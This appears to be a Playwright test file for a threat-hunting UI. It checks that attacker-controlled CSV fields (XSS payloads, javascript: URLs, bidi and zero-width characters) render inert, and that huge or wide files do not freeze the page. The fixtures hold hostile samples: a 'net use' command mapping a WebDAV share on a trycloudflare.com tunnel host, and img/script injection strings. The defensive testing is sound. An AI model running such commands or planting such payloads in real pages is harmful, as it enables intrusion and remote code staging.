/**
 * Attacker-written text reaches the UI only as text: markup stays inert, invisible and
 * direction-changing characters are shown as ⟦U+XXXX⟧ tokens, and huge values or absurdly wide
 * files neither crash nor freeze the page. Every row below is a real hit of the bundled hunt
 * (PROCESS / PROCESS_START / AGENT_OS_WINDOWS, cmd.exe, trycloudflare.com and `net use`).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { HEADER, csvRow, expect, shot, tempDir, test, waitDone, writeCsv, type EventSpec } from './fixtures';

const hit = (id: string, tail: string, over: Partial<EventSpec> = {}): EventSpec => ({
  time: '2025-06-30T14:02:11Z',
  host: `WS-${id.toUpperCase()}`,
  user: 'CORP\\alice',
  image: 'cmd.exe',
  commandLine: `cmd.exe /c net use Z: \\\\${id}.trycloudflare.com@SSL\\DavWWWRoot ${tail}`,
  eventId: `${id}-evt`,
  ...over,
});

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=1</script>';
const MB = 1024 * 1024;
const BIG_END = 'END-OF-THE-MEGABYTE';

const row = (page: Page, id: string) => page.locator(`[data-testid="hit-row"][data-event-id="${id}-evt"]`);

async function assertInert(page: Page): Promise<void> {
  await expect(page.locator('img[src="x"]')).toHaveCount(0);
  await expect(page.locator('img')).toHaveCount(0);
  const scripts = await page.locator('script').evaluateAll((ss) => ss.map((s) => s.textContent ?? ''));
  expect(scripts.filter((t) => t.includes('__pwned'))).toEqual([]);
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
  await expect(page.locator('[onerror]')).toHaveCount(0);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
}

/** Text nodes anywhere in the page that still hold a raw control, bidi or zero-width character. */
async function rawInvisibles(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const found: string[] = [];
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      // eslint-disable-next-line no-control-regex
      const m = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u202A-\u202E\u200B-\u200F\u2066-\u2069\uFEFF]/.exec(n.textContent ?? '');
      if (m) {
        const where = n.parentElement?.closest('[data-testid]')?.getAttribute('data-testid') ?? n.parentElement?.tagName ?? '?';
        found.push(`U+${(m[0].codePointAt(0) ?? 0).toString(16).toUpperCase()} in ${JSON.stringify((n.textContent ?? '').slice(0, 60))} (${where})`);
      }
    }
    return found;
  });
}

test('markup, bidi, invisible and control characters in hits stay inert and visible', async ({ page }) => {
  const dir = tempDir();
  const path = writeCsv(dir, 'hostile.csv', [
    hit('img01', IMG, { user: `CORP\\${IMG}`, host: `WS-${IMG}` }),
    hit('scr01', SCRIPT),
    hit('jsu01', 'javascript:alert(1) https://javascript:alert(1)@evil.example/x'),
    hit('bidi01', 'invoice\u202Etxt.exe', { host: 'WS-\u202EBIDI' }),
    hit('zw01', 'pay\u200Bload\u200Djoin\uFEFFbom'),
    hit('ansi01', '\u001b[31mRED\u001b[0m \u001b]0;title\u0007'),
    hit('nul01', 'before\u0000after'),
  ]);
  await page.goto('/');
  await page.getByTestId('file-input').setInputFiles(path);
  await waitDone(page);
  await expect(page.getByTestId('hit-count')).toHaveText('7');
  const table = page.getByTestId('hits-table');
  await expect(table).toContainText(IMG);
  await expect(table).toContainText(SCRIPT);
  await expect(table).toContainText('javascript:alert(1)');
  await assertInert(page);

  // Each invisible character is a visible token, in the table and in the detail pane.
  await expect(row(page, 'bidi01')).toContainText('invoice⟦U+202E⟧txt.exe');
  await expect(row(page, 'bidi01')).toContainText('WS-⟦U+202E⟧BIDI');
  await expect(row(page, 'zw01')).toContainText('pay⟦U+200B⟧load⟦U+200D⟧join⟦U+FEFF⟧bom');
  await expect(row(page, 'ansi01')).toContainText('⟦U+001B⟧[31mRED⟦U+001B⟧[0m ⟦U+001B⟧]0;title⟦U+0007⟧');
  await expect(row(page, 'nul01')).toContainText('before⟦U+0000⟧after');
  // No raw override or zero-width character is left in any rendered text node.
  expect(await rawInvisibles(page)).toEqual([]);
  await shot(page, 'hostile-table');

  for (const id of ['img01', 'scr01', 'bidi01', 'nul01']) {
    await row(page, id).dblclick();
    const pane = page.getByTestId('detail-pane');
    await expect(pane).toBeVisible();
    await expect(pane.getByTestId('raw-record')).toBeVisible();
    await assertInert(page);
  }
  const pane = page.getByTestId('detail-pane');
  await expect(pane.getByTestId('detail-command-line')).toContainText('before⟦U+0000⟧after');
  await expect(pane).toContainText('invisible or direction-changing characters');
  await row(page, 'bidi01').dblclick();
  await expect(pane.getByTestId('detail-command-line')).toContainText('invoice⟦U+202E⟧txt.exe');
  await row(page, 'img01').dblclick();
  await expect(pane.getByTestId('detail-command-line')).toContainText(IMG);
  await expect(pane).toContainText(`CORP\\${IMG}`);
  await shot(page, 'hostile-detail');
  await assertInert(page);
  await row(page, 'bidi01').dblclick();
  await expect(pane).toContainText('WS-⟦U+202E⟧BIDI');
  expect(await rawInvisibles(page)).toEqual([]);
});

test('a 1 MB command line is clipped in the table and whole, scrollable, in the detail pane', async ({ page }) => {
  const dir = tempDir();
  const big = `${'A'.repeat(MB)} ${BIG_END}`;
  const path = writeCsv(dir, 'megabyte.csv', [hit('big01', big), hit('small01', 'next row')]);
  await page.goto('/');
  await page.getByTestId('file-input').setInputFiles(path);
  await waitDone(page);
  await expect(page.getByTestId('hit-count')).toHaveText('2');

  const cell = row(page, 'big01').locator('[data-column="action_process_image_command_line"]');
  await expect(cell).toBeVisible();
  const cellText = (await cell.textContent()) ?? '';
  expect(cellText.length).toBeGreaterThan(100);
  expect(cellText.length, 'the table cell holds a clipped value, not the megabyte').toBeLessThan(10_000);
  expect(cellText).not.toContain(BIG_END);
  // The row keeps the table's row height and its neighbour is where it should be.
  const [a, b] = await Promise.all([row(page, 'big01').boundingBox(), row(page, 'small01').boundingBox()]);
  expect(a?.height).toBeLessThanOrEqual(40);
  expect(b).not.toBeNull();
  await shot(page, 'megabyte-table');

  // The page still answers promptly (a frozen main thread would not).
  const t0 = Date.now();
  await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => r(null))));
  expect(Date.now() - t0).toBeLessThan(2000);

  await row(page, 'big01').dblclick();
  const block = page.getByTestId('detail-pane').getByTestId('detail-command-line');
  await expect(block).toBeVisible();
  const full = await block.evaluate((el) => ({
    length: el.textContent?.length ?? 0,
    scrollHeight: el.scrollHeight,
    clientHeight: el.clientHeight,
    overflowY: getComputedStyle(el).overflowY,
  }));
  expect(full.length).toBeGreaterThanOrEqual(MB);
  expect(full.scrollHeight).toBeGreaterThan(full.clientHeight);
  expect(['auto', 'scroll']).toContain(full.overflowY);
  // Scroll the block to its end: the last characters of the megabyte are there.
  await block.evaluate((el) => {
    el.scrollTop = el.scrollHeight;
  });
  await expect(block).toContainText(BIG_END);
  const box = await block.boundingBox();
  expect(box?.height ?? 0).toBeLessThan(page.viewportSize()?.height ?? 720);
  await shot(page, 'megabyte-detail');
});

test('a file with 10,000 columns runs and its hit opens', async ({ page }) => {
  test.setTimeout(60_000);
  const dir = tempDir();
  const extra = Array.from({ length: 10_000 - HEADER.length }, (_, i) => `extra_${String(i).padStart(4, '0')}`);
  const header = [...HEADER, ...extra].join(',');
  const rowOf = (e: EventSpec) => [csvRow(e), ...extra.map((_, i) => (i % 97 === 0 ? `v${i}` : ''))].join(',');
  const path = join(dir, 'wide.csv');
  writeFileSync(path, [header, rowOf(hit('wide01', 'first')), rowOf(hit('wide02', 'second'))].join('\n') + '\n');
  await page.goto('/');
  await page.getByTestId('file-input').setInputFiles(path);
  await waitDone(page);
  await expect(page.getByTestId('hit-count')).toHaveText('2');
  // The mapping table of a file this wide opens too (one select per field, not fields × columns options).
  const edit = page.getByTestId('mapping-edit').first();
  if ((await edit.count()) > 0) {
    await edit.click();
    await expect(page.locator('[data-testid^="mapping-select-"]').first()).toBeVisible();
    await edit.click();
  }
  await row(page, 'wide01').dblclick();
  const pane = page.getByTestId('detail-pane');
  await expect(pane.getByTestId('raw-record')).toBeVisible();
  await expect(pane).toContainText('10000 fields');
  await expect(pane.getByTestId('raw-record')).toContainText('extra_9987');
  await shot(page, 'wide-file');
});
